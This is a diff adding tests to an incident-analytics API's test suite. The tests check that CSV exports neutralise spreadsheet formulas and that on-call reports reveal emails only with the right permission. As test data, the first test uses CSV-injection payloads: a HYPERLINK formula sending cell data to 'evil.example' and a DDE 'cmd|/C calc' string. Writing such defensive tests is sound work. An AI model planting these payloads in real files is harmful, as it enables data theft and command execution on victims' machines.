@@ -95,6 +95,46 @@ test('CSV quoting follows RFC 4180', (t) => {
   t.is(toCsv(['a', 'b'], [['x,y', 'say "hi"'], ['line\nbreak', null]]), 'a,b\r\n"x,y","say ""hi"""\r\n"line\nbreak",\r\n');
 });
 
+test('CSV cells a spreadsheet would run as formulas (rule names, a person renamed) start with a quote; JSON keeps the names as they are', async (t) => {
+  const formulas = app.newTenant();
+  const hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
+  const sum = '@SUM(1,1)';
+  const named = await scriptHistory(appTarget(app, formulas), { disk: hyperlink, slow: sum });
+  for (const [id, name] of [[named.bob, "+1+cmd|' /C calc'!A0"], [named.alice, '-2+3']] as const) {
+    const renamed = await app.request('PATCH', `/api/v1/users/${id}`, { caller: formulas, body: { name } });
+    t.is(renamed.status, 200, JSON.stringify(renamed.body));
+    t.is((await get(`/users/${id}`, { 'x-min-read-position': renamed.headers.get('x-read-position')! }, formulas)).body.data.name, name);
+  }
+  const incidents = String((await get(`/analytics/incidents?${range}&group_by=rule`, { accept: 'text/csv' }, formulas)).body).split('\r\n');
+  const row = (ruleId: string) => incidents.find((line) => line.startsWith(`${ruleId},`));
+  t.true(row(named.rules.disk)?.startsWith(`${named.rules.disk},"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",3,2,`), row(named.rules.disk));
+  t.true(row(named.rules.slow)?.startsWith(`${named.rules.slow},"'@SUM(1,1)",2,0,`), row(named.rules.slow));
+  const oncall = String((await get(`/analytics/oncall?${range}`, { accept: 'text/csv' }, formulas)).body).split('\r\n');
+  t.regex(oncall[1]!, new RegExp(`^${named.bob},'\\+1\\+cmd\\|' /C calc'!A0,bob-[^,]+@example\\.com,3,2,`));
+  t.regex(oncall[2]!, new RegExp(`^${named.alice},'-2\\+3,alice-[^,]+,3,1,Europe/Berlin \\(schedule\\),327$`), 'the counts are numbers, not neutralised');
+  const json = await get(`/analytics/incidents?${range}&group_by=rule`, undefined, formulas);
+  t.deepEqual((json.body.data.groups as { label: string }[]).map((g) => g.label).sort(), [sum, hyperlink].sort());
+  t.deepEqual(((await get(`/analytics/oncall?${range}`, undefined, formulas)).body.data.people as { name: string }[]).map((p) => p.name), ["+1+cmd|' /C calc'!A0", '-2+3']);
+});
+
+test('on-call health names people to analytics:read alone; their email only with iam:read as well (JSON and CSV)', async (t) => {
+  const role = await app.request('POST', '/api/v1/roles', { caller, body: { name: 'Analysts', permissions: { 'analytics:read': 'allow', 'iam:read': 'deny' } } });
+  t.is(role.status, 201, JSON.stringify(role.body));
+  const analyst: Caller = { ...app.newTenant(), tenantId: caller.tenantId, roles: ['Analysts'] };
+  t.is((await get('/users', undefined, analyst)).status, 403, 'the analyst may not list users');
+  const people = (await get(`/analytics/oncall?${range}`, undefined, analyst)).body.data.people as Record<string, unknown>[];
+  t.deepEqual(people.map((p) => [p.name, 'email' in p]), [['bob', false], ['alice', false]]);
+  const csv = String((await get(`/analytics/oncall?${range}`, { accept: 'text/csv' }, analyst)).body).split('\r\n');
+  t.is(csv[0], 'user_id,name,pages_received,pages_at_night,zones_used,hours_on_call');
+  t.is(csv[1], `${history.bob},bob,3,2,Europe/Berlin (schedule); UTC (utc),9`);
+  t.false(csv.join('\n').includes('@example.com'));
+
+  const viewer = { ...caller, roles: ['viewer'] };
+  const seen = (await get(`/analytics/oncall?${range}`, undefined, viewer)).body.data.people as { name: string; email: string }[];
+  t.true(seen.every((p) => p.email.startsWith(`${p.name}-`) && p.email.endsWith('@example.com')), 'a viewer holds iam:read: the emails');
+  t.regex(String((await get(`/analytics/oncall?${range}`, { accept: 'text/csv' }, viewer)).body).split('\r\n')[0]!, /^user_id,name,email,/);
+});
+
 test('a tenant sees only its own incidents and people', async (t) => {
   const stranger = app.newTenant();
   const incidents = await get(`/analytics/incidents?${range}`, undefined, stranger);
